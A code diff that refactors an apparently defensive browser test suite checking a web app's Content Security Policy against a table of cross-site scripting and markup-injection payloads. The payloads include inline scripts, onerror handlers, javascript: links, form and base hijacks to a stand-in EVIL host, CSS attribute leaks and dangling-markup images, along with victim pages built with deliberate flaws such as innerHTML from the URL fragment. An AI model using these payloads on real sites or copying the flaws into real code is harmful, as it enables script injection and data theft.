@@ -1,4 +1,4 @@
-"""Eighteen kinds of attack on a page that shows text of others as markup, in a real browser.
+"""Attacks on a page that shows text of others as markup, in a real browser.
 
 Each names what a policy would have to allow for it to work, and goes exactly as far.
 """
@@ -15,7 +15,7 @@ from app.security.csp import csp_nonce
 from app.security.csp_syntax import DATA, HTTPS, NONCE, SELF, UNSAFE_INLINE, Policy
 from tests.browser.conftest import Elsewhere, Serve
 
-# The page with the hole, and the best case for an attacker: all on one line, since browsers
+# The page with the flaw, and the best case for an attacker: all on one line, since browsers
 # drop addresses that swallowed a line break and a "<".
 PAGE = (
     "<!doctype html><title>Victim</title>MARKUP"
@@ -25,14 +25,6 @@ PAGE = (
 )
 WIN = 'location="/won"'
 WON, STOPPED = "/won", "stopped"
-
-# What lets each in.
-INLINE = {UNSAFE_INLINE}
-OWN = {SELF, "*"}
-ELSEWHERE = {HTTPS, "*"}
-DATA_ADDRESS = {DATA}
-BLOB_ADDRESS = {"blob:"}
-NOT_SET: set[str] = set()
 
 FALLBACKS = {
     "script-src-elem": ["script-src", "default-src"],
@@ -45,11 +37,20 @@ FALLBACKS = {
     "worker-src": ["child-src", "script-src", "default-src"],
 }
 
+# What lets each in: one of these sources in that directive.
+ELSEWHERE = {HTTPS, "*"}
+INLINE_SCRIPT = {"script-src-elem": {UNSAFE_INLINE}}
+OTHER_SCRIPT = {"script-src-elem": ELSEWHERE}
+HANDLER = {"script-src-attr": {UNSAFE_INLINE}}
+OTHER_IMAGE = {"img-src": ELSEWHERE}
+OTHER_FORM = {"form-action": ELSEWHERE}
+PLUG_IN = {"object-src": ELSEWHERE}
+NO_TRUSTED_TYPES: dict[str, set[str]] = {"require-trusted-types-for": set()}
+
 
 class Attack(NamedTuple):
     """One try. It works where the policy allows all that it needs."""
 
-    kind: str
     markup: str
     needs: dict[str, set[str]]
     click: str = ""
@@ -61,120 +62,85 @@ class Attack(NamedTuple):
 
 
 ATTACKS = {
-    "inline-script": Attack(
-        "inline script", f"<script>{WIN}</script>", {"script-src-elem": INLINE}
-    ),
-    "inline-script-with-an-old-nonce": Attack(
-        "inline script", f'<script nonce="OLD">{WIN}</script>', {"script-src-elem": INLINE}
-    ),
-    "event-attribute": Attack(
-        "event attribute", f"<img src=x onerror='{WIN}'>", {"script-src-attr": INLINE}
-    ),
-    "event-attribute-of-svg": Attack(
-        "event attribute", f"<svg onload='{WIN}'></svg>", {"script-src-attr": INLINE}
-    ),
+    "inline-script": Attack(f"<script>{WIN}</script>", INLINE_SCRIPT),
+    "inline-script-with-an-old-nonce": Attack(f'<script nonce="OLD">{WIN}</script>', INLINE_SCRIPT),
+    "event-attribute": Attack(f"<img src=x onerror='{WIN}'>", HANDLER),
+    "event-attribute-of-svg": Attack(f"<svg onload='{WIN}'></svg>", HANDLER),
     "javascript-link": Attack(
-        "javascript address",
-        f"<a href='javascript:void({WIN})'>Prize</a>",
-        {"script-src-elem": INLINE},
-        click="a",
+        f"<a href='javascript:void({WIN})'>Prize</a>", INLINE_SCRIPT, click="a"
     ),
     "javascript-frame": Attack(
-        "javascript address",
-        f"<iframe src='javascript:void(top.{WIN})'></iframe>",
-        {"script-src-elem": INLINE},
+        f"<iframe src='javascript:void(top.{WIN})'></iframe>", INLINE_SCRIPT
     ),
-    "script-from-another-origin": Attack(
-        "script from elsewhere",
-        '<script src="EVIL/attack.js"></script>',
-        {"script-src-elem": ELSEWHERE},
+    "script-of-another-origin": Attack('<script src="EVIL/attack.js"></script>', OTHER_SCRIPT),
+    "script-of-a-data-address": Attack(
+        f"<script src='data:text/javascript,{WIN}'></script>", {"script-src-elem": {DATA}}
     ),
-    "script-from-a-data-address": Attack(
-        "script from elsewhere",
-        f"<script src='data:text/javascript,{WIN}'></script>",
-        {"script-src-elem": DATA_ADDRESS},
+    "script-of-an-own-address-that-echoes": Attack(
+        f"<script src='/echo.js?text={WIN}'></script>", {"script-src-elem": {SELF, "*"}}
     ),
-    "script-from-an-own-address": Attack(
-        "script from an own address that echoes",
-        f"<script src='/echo.js?text={WIN}'></script>",
-        {"script-src-elem": OWN},
-    ),
-    "nonce-theft": Attack(
-        "theft of the next script's nonce",
-        '<script src="EVIL/attack.js" x=',
-        {"script-src-elem": ELSEWHERE},
-    ),
-    "base": Attack("base element", '<base href="EVIL/">', {"base-uri": ELSEWHERE}),
-    "form": Attack(
-        "form to another origin",
-        '<form action="EVIL/won">',
-        {"form-action": ELSEWHERE},
-        click="button",
-    ),
+    "theft-of-the-next-nonce": Attack('<script src="EVIL/attack.js" x=', OTHER_SCRIPT),
+    "base": Attack('<base href="EVIL/">', {"base-uri": ELSEWHERE}),
+    "form": Attack('<form action="EVIL/won">', OTHER_FORM, click="button"),
     "button": Attack(
-        "form to another origin",
         '<button form="form" formaction="EVIL/won">Go</button>',
-        {"form-action": ELSEWHERE},
+        OTHER_FORM,
         click="button:first-of-type",
     ),
-    "object": Attack("plug-in", '<object data="EVIL/won"></object>', {"object-src": ELSEWHERE}),
-    "embed": Attack("plug-in", '<embed src="EVIL/won">', {"object-src": ELSEWHERE}),
-    "srcdoc-frame": Attack(
-        "frame with its own markup",
-        f"<iframe srcdoc='<script>top.{WIN}</script>'></iframe>",
-        {"script-src-elem": INLINE},
-    ),
-    "frame": Attack(
-        "frame of another origin", '<iframe src="EVIL/won"></iframe>', {"frame-src": ELSEWHERE}
-    ),
+    "object": Attack('<object data="EVIL/won"></object>', PLUG_IN),
+    "embed": Attack('<embed src="EVIL/won">', PLUG_IN),
+    "srcdoc-frame": Attack(f"<iframe srcdoc='<script>top.{WIN}</script>'></iframe>", INLINE_SCRIPT),
+    "frame": Attack('<iframe src="EVIL/won"></iframe>', {"frame-src": ELSEWHERE}),
     # No directive of any policy stops a page from being left.
-    "meta-refresh": Attack(
-        "refresh to another origin", '<meta http-equiv="refresh" content="0;url=EVIL/won">', {}
-    ),
+    "refresh": Attack('<meta http-equiv="refresh" content="0;url=EVIL/won">', {}),
     "style-element": Attack(
-        "style that reads attributes",
         '<style>html:has([value^="s"]) {background: url(EVIL/won)}</style>',
-        {"style-src-elem": INLINE, "img-src": ELSEWHERE},
+        {"style-src-elem": {UNSAFE_INLINE}, **OTHER_IMAGE},
     ),
     "style-attribute": Attack(
-        "style that reads attributes",
         '<p style="background: url(EVIL/won)">Prize</p>',
-        {"style-src-attr": INLINE, "img-src": ELSEWHERE},
+        {"style-src-attr": {UNSAFE_INLINE}, **OTHER_IMAGE},
     ),
     "stylesheet": Attack(
-        "stylesheet from another origin",
         '<link rel="stylesheet" href="EVIL/attack.css">',
-        {"style-src-elem": ELSEWHERE, "img-src": ELSEWHERE},
+        {"style-src-elem": ELSEWHERE, **OTHER_IMAGE},
     ),
-    "image": Attack("image that swallows the page", "<img src='EVIL/won?", {"img-src": ELSEWHERE}),
+    "image-that-swallows-the-page": Attack("<img src='EVIL/won?", OTHER_IMAGE),
     "inner-html": Attack(
-        "markup by a script of the page",
         "",
-        {"script-src-attr": INLINE, "require-trusted-types-for": NOT_SET},
+        {**HANDLER, **NO_TRUSTED_TYPES},
         flaw="sink.innerHTML = decodeURIComponent(location.hash.slice(1))",
         fragment=f"<img src=x onerror='{WIN}'>",
     ),
     "data-worker": Attack(
-        "worker by a script of the page",
         "",
-        {"worker-src": DATA_ADDRESS, "require-trusted-types-for": NOT_SET},
+        {"worker-src": {DATA}, **NO_TRUSTED_TYPES},
         flaw=f"new Worker(location.hash.slice(1)).onmessage = () => {WIN}",
         fragment="data:text/javascript,postMessage(1)",
     ),
     "blob-worker": Attack(
-        "worker by a script of the page",
         "",
-        {"worker-src": BLOB_ADDRESS, "require-trusted-types-for": NOT_SET},
+        {"worker-src": {"blob:"}, **NO_TRUSTED_TYPES},
         flaw="const address = URL.createObjectURL(new Blob([location.hash.slice(1)]));"
         f"new Worker(address).onmessage = () => {WIN}",
         fragment="postMessage(1)",
     ),
     "framed": Attack(
-        "framed by another origin",
         '<img src="/won">',
         {"frame-ancestors": ELSEWHERE},
         lure='<iframe src="SITE/victim"></iframe>',
     ),
+}
+
+# What a policy for older pages may let in.
+TOLERATED = {
+    "frame",
+    "image-that-swallows-the-page",
+    "refresh",
+    "script-of-an-own-address-that-echoes",
+    "style-attribute",
+    "style-element",
+    "stylesheet",
 }
 
 
@@ -217,17 +183,13 @@ def test_an_attack_gets_as_far_as_the_policy_lets_it(
         assert WON not in seen.queue
 
 
-def test_few_kinds_of_attack_work(app: Flask) -> None:
-    policy = app.config["CSP"]
-    kinds = {attack.kind for attack in ATTACKS.values()}
-    working = {attack.kind for attack in ATTACKS.values() if works(attack, policy)}
-    assert len(kinds) == 18
-    # Inline styles let several more in: a policy that allows them is for older pages.
-    assert len(working) <= (6 if allows(policy, "style-src-attr", INLINE) else 1)
+def test_no_attack_that_runs_a_script_or_steals_a_form_works(app: Flask) -> None:
+    working = {name for name, attack in ATTACKS.items() if works(attack, app.config["CSP"])}
+    assert working <= TOLERATED, "CSP in policy.py lets these in: make it stricter."
 
 
 def add_victim(app: Flask, attack: Attack, evil: str, seen: "Queue[str]") -> None:
-    """Give the app a page with a hole, and note what it is asked for and what was stopped."""
+    """Give the app a page with a flaw, and note what it is asked for and what was stopped."""
     nonces = ["none yet"]
 
     @app.before_request
@@ -244,13 +206,9 @@ def add_victim(app: Flask, attack: Attack, evil: str, seen: "Queue[str]") -> Non
         text = PAGE.replace("MARKUP", markup).replace("FLAW", attack.flaw)
         return text.replace("NONCE", nonces[-1])
 
-    @app.get("/helper.js")
-    def helper() -> Response:
-        return Response("", mimetype="text/javascript")
-
-    @app.get("/echo.js")
-    def echo() -> Response:
-        return Response(request.args["text"], mimetype="text/javascript")
+    @app.get("/<any(helper, echo):name>.js")
+    def script(name: str) -> Response:
+        return Response(request.args.get("text", ""), mimetype="text/javascript")
 
 
 def outcome(seen: "Queue[str]") -> str:
@@ -271,5 +229,5 @@ def allows(policy: Policy, directive: str, by: set[str]) -> bool:
     if sources is None:
         return True
     # A nonce switches 'unsafe-inline' off.
-    counting = set(sources) - INLINE if NONCE in sources else set(sources)
+    counting = set(sources) - {UNSAFE_INLINE} if NONCE in sources else set(sources)
     return not by.isdisjoint(counting)
